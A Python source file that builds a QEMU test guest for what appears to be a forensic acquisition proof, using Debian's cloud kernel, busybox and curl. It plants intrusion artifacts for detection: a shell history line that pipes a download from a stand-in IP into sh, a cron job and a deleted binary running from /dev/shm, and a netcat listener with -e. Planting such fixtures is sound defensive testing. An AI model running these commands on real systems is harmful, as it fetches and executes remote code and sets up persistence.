"""A guest for the proof: the kernel of Debian's cloud images with a few of its modules, busybox, and curl, all from
packages that are unpacked and not installed. No root file system: an initial RAM disk, and one ext4 disk beside it, to
show that nothing is written there. A guest of this host's own kind of machine has this host's programs; one of another
kind has them from packages too, by a private state of apt that the system's never hears of.
"""

from __future__ import annotations

import gzip
import os
import re
import shutil
import subprocess
import tempfile
from dataclasses import dataclass
from pathlib import Path

# Modules in the order in which they load, for every machine; those that are built in are not there.
MODULES = [
    *("drivers/virtio/virtio_ring", "drivers/virtio/virtio", "drivers/virtio/virtio_pci_legacy_dev"),
    *("drivers/virtio/virtio_pci_modern_dev", "drivers/virtio/virtio_pci", "net/core/failover"),
    *("drivers/net/net_failover", "drivers/net/virtio_net", "drivers/block/virtio_blk"),
    *("lib/crc16", "crypto/crc32c_generic", "arch/x86/crypto/crc32c-intel", "fs/mbcache", "fs/jbd2/jbd2", "fs/ext4/ext4"),
]
TOOLS = (
    "sh mount umount insmod ifconfig route sleep poweroff cat echo ls sha256sum cut cp rm nc uname grep chmod tr head mkdir "
    "printf rmdir sync stat unshare"
)

INIT = r"""#!/bin/sh
export PATH=/bin
mount -t proc proc /proc; mount -t sysfs sys /sys; mount -t devtmpfs dev /dev
mount -t securityfs sec /sys/kernel/security 2>/dev/null
mkdir -p /dev/shm /run /disk; mount -t tmpfs shm /dev/shm; mount -t tmpfs -o noexec run /run
for module in /modules/*.ko; do insmod $module || echo "GUEST insmod $module failed"; done
ifconfig lo up; ifconfig eth0 10.0.2.15 netmask 255.255.255.0 up; route add default gw 10.0.2.2
mount -t ext4 /dev/vda /disk && mkdir -p /var/spool /root && ln -s /disk/cron /var/spool/cron 2>/dev/null
. /settings
# The marker is made here, so that it stands in no file: only a process' memory has it.
MARK="MARK-$(echo -n "proof-$nonce" | sha256sum | cut -c1-64)-END" sleep 100000 &
cp /bin/busybox /dev/shm/sleep; /dev/shm/sleep 100001 & sleep 1; rm /dev/shm/sleep
[ -z "$noexec" ] || mount -o remount,noexec /dev/shm
nc -ll -p 4444 -e /bin/cat &
sync; sleep 1
written() { set -- $(cat /sys/block/vda/stat); echo "$7"; }
before=$(written)
echo "GUEST kernel $(uname -r) lockdown $(cat /sys/kernel/security/lockdown 2>/dev/null)"
sh /document.sh
echo "GUEST code $?"
sync; sleep 1
echo "GUEST sectors-written $(( $(written) - before ))"
echo "GUEST left-over $(ls -A /dev/shm /run | tr '\n' ' ')"
poweroff -f
"""


@dataclass(frozen=True)
class Machine:
    """A kind of machine that a guest can be."""

    name: str  # as its kernel says it
    debian: str  # as Debian's packages say it
    emulator: tuple[str, ...]  # QEMU's program for it, with the board and the processor
    packages: tuple[str, ...]  # what brings that program
    console: str
    programs: tuple[str, ...] = ()  # the packages that bring busybox and curl; none where this host's own are taken


X86_64 = Machine(
    name="x86_64",
    debian="amd64",
    emulator=("qemu-system-x86_64", "-cpu", "max,la57=off"),
    packages=("qemu-system-x86", "seabios", "ipxe-qemu"),
    console="ttyS0",
)
AARCH64 = Machine(
    name="aarch64",
    debian="arm64",
    # The processor of the first Graviton: what runs there runs on the later ones.
    emulator=("qemu-system-aarch64", "-machine", "virt", "-cpu", "cortex-a72"),
    packages=("qemu-system-arm", "ipxe-qemu"),
    console="ttyAMA0",
    programs=("busybox-static", "curl"),
)

# A state of apt of its own: no package is installed in it, and none ever is. What the system's apt does after an update
# is for the system's state. The sources and their keys are the system's. The folder may be one that only root may
# enter, so apt's own user could not write there.
PRIVATE_APT = """#clear APT::Update;
#clear APT::Architectures;
APT::Architecture "{debian}";
APT::Architectures {{ "{debian}"; }};
APT::Install-Recommends "false";
APT::Sandbox::User "root";
Acquire::Languages "none";
Dir::State "{folder}/state";
Dir::State::status "{folder}/status";
Dir::Cache "{folder}/cache";
Dir::Cache::archives "{folder}";
"""


class NotHere(Exception):
    """What is missing for a proof, in words."""


def apt(folder: Path, *command: str) -> str:
    try:
        done = subprocess.run(command, cwd=folder, capture_output=True, text=True, check=False)
    except FileNotFoundError:
        raise NotHere(f"no {command[0]}: this needs Debian's packages") from None
    if done.returncode != 0:
        words = [word for word in command if not word.startswith((str(folder), "-"))]
        raise NotHere(f"{' '.join(words)}: {(done.stderr.strip().splitlines() or ['it failed and said nothing'])[-1]}")
    return done.stdout


def private_apt(machine: Machine, folder: Path) -> tuple[str, ...]:
    """Makes a state of apt for the machine's packages in the folder, and gives the options with which apt uses it."""
    for name in ("state/lists/partial", "cache", "partial"):
        (folder / name).mkdir(parents=True)
    (folder / "status").touch()
    (folder / "apt.conf").write_text(PRIVATE_APT.format(debian=machine.debian, folder=folder))
    options = ("-c", f"{folder}/apt.conf")
    apt(folder, "apt-get", *options, "update", "-qq")
    return options


def unpack(machine: Machine, cache: Path) -> Path:
    """The kernel of Debian's cloud images, and the programs where they come from packages, unpacked into the cache."""
    cache = cache.resolve()
    kept = sorted(cache.glob(f"vm-linux-image-*-cloud-{machine.debian}/ready"))
    if machine.programs and kept:
        # Asking for a newer one would mean to fetch the lists of all packages. Without the folder it is fetched anew.
        return kept[-1].parent
    with tempfile.TemporaryDirectory(dir=cache) as name:
        downloads = Path(name)
        options = private_apt(machine, downloads) if machine.programs else ()
        meta = apt(downloads, "apt-cache", *options, "depends", f"linux-image-cloud-{machine.debian}")
        found = re.search(r"Depends: (linux-image-\S+)", meta)
        if not found:
            raise NotHere(f"no package linux-image-cloud-{machine.debian}: this needs Debian's packages (apt-get update)")
        folder = cache / f"vm-{found.group(1)}"
        if (folder / "ready").exists():
            return folder
        shutil.rmtree(folder, ignore_errors=True)
        folder.mkdir(parents=True)
        apt(downloads, "apt-get", *options, "download", "-qq", found.group(1))
        if machine.programs:
            # With the libraries that they depend on.
            apt(downloads, "apt-get", *options, "install", "-y", "-qq", "--download-only", *machine.programs)
        for package in downloads.glob("*.deb"):
            subprocess.run(["dpkg", "-x", package, folder], check=True)
        (folder / "ready").touch()
    return folder


def programs(machine: Machine, unpacked: Path, root: Path) -> None:
    """busybox with its names, and curl with its libraries."""
    (root / "bin").mkdir()
    for tool in TOOLS.split():
        (root / "bin" / tool).symlink_to("busybox")
    for name in ("busybox", "curl"):
        shutil.copy(program(machine, unpacked, name), root / "bin" / name)
    curl = program(machine, unpacked, "curl")
    for place, library in (of_packages(curl, unpacked) if machine.programs else of_this_host(curl)).items():
        (root / place[1:]).parent.mkdir(parents=True, exist_ok=True)
        shutil.copy(os.path.realpath(library), root / place[1:])


def program(machine: Machine, unpacked: Path, name: str) -> str | Path:
    """Where busybox or curl is."""
    if not machine.programs:
        if found := shutil.which(name):
            return found
        raise NotHere(f"{name} is not installed")
    for folder in ("bin", "usr/bin"):
        if (unpacked / folder / name).exists():
            return unpacked / folder / name
    raise NotHere(f"{name} is not in the packages for {machine.debian}")


def of_this_host(curl: str | Path) -> dict[str, str | Path]:
    """The libraries of a program, by where they are in the guest: the same place."""
    libraries = subprocess.run(["ldd", curl], capture_output=True, text=True, check=True).stdout
    return {library: library for library in re.findall(r"(/\S+\.so\S*)", libraries)}


def of_packages(curl: str | Path, unpacked: Path) -> dict[str, str | Path]:
    """The same from packages. ldd would run the other machine's loader, so this looks for the libraries' names: each
    stands between two zeros in whatever needs it.
    """
    known = {file.name: file for file in unpacked.rglob("*.so*") if file.is_file()}
    found, left = {}, [Path(curl)]
    while left:
        content = left.pop().read_bytes()
        needed = {f"/lib/{name}": file for name, file in known.items() if b"\0%b\0" % name.encode() in content}
        left += [file for place, file in needed.items() if place not in found]
        found |= needed
    return found


def initial_ram_disk(
    machine: Machine, unpacked: Path, target: Path, script: str, settings: dict[str, str], authority: Path
) -> None:
    with tempfile.TemporaryDirectory(dir=target.parent) as folder:
        root = Path(folder)
        for name in ("proc", "sys", "dev", "tmp", "modules", "etc", "root", "var", "disk", "run", "mnt"):
            (root / name).mkdir()
        programs(machine, unpacked, root)
        modules = next((unpacked / "lib/modules").iterdir()) / "kernel"
        for number, name in enumerate(MODULES):
            if (module := modules / f"{name}.ko").exists():
                shutil.copy(module, root / f"modules/{number:02}-{module.name}")
        shutil.copy(authority, root / "etc/authority.pem")
        (root / "root/.bash_history").write_text("curl http://203.0.113.9/x | sh\n")
        (root / "etc/hosts").write_text("127.0.0.1 localhost\n")
        (root / "settings").write_text("".join(f"export {name}='{value}'\n" for name, value in settings.items()))
        (root / "document.sh").write_text(script)
        (root / "init").write_text(INIT)
        (root / "init").chmod(0o755)
        names = subprocess.run(["find", "."], cwd=root, capture_output=True, check=True).stdout
        packed = subprocess.run(["cpio", "-o", "-H", "newc", "--quiet"], cwd=root, input=names, capture_output=True, check=True)
        target.write_bytes(gzip.compress(packed.stdout, 1))


def disk(target: Path) -> None:
    with tempfile.TemporaryDirectory(dir=target.parent) as folder:
        (Path(folder) / "cron").mkdir()
        (Path(folder) / "cron/root").write_text("* * * * * /dev/shm/sleep 100001\n")
        with target.open("wb") as file:
            file.truncate(16 << 20)
        # Else a thread of the guest's kernel would write the tables later, and be gone at some moment of the acquisition.
        tables = ("-E", "lazy_itable_init=0,lazy_journal_init=0")
        subprocess.run(["mkfs.ext4", "-q", "-F", *tables, "-d", folder, target], check=True, capture_output=True)


def boot(
    machine: Machine, unpacked: Path, ram_disk: Path, volume: Path, memory_mib: int, arguments: str, limit: float
) -> str:
    """Boots the guest, waits for its end, and gives what it said on its console."""
    console = ram_disk.with_suffix(".console")
    image = next((unpacked / "boot").glob("vmlinuz-*"))
    command = [
        *(*machine.emulator, "-accel", "tcg,thread=multi", "-smp", "2", "-m", str(memory_mib)),
        *("-display", "none", "-monitor", "none", "-serial", f"file:{console}", "-no-reboot", "-nodefaults"),
        *("-kernel", str(image), "-initrd", str(ram_disk), "-append", f"console={machine.console} panic=-1 quiet {arguments}"),
        *("-netdev", "user,id=net", "-device", "virtio-net-pci,netdev=net"),
        *("-drive", f"file={volume},format=raw,if=virtio"),
    ]  # fmt: skip
    try:
        subprocess.run(command, check=True, timeout=limit, capture_output=True)
    except subprocess.TimeoutExpired:
        raise AssertionError(f"the guest did not end in {limit:.0f} s:\n{console.read_text(errors='replace')[-3000:]}") from None
    return console.read_text(errors="replace")
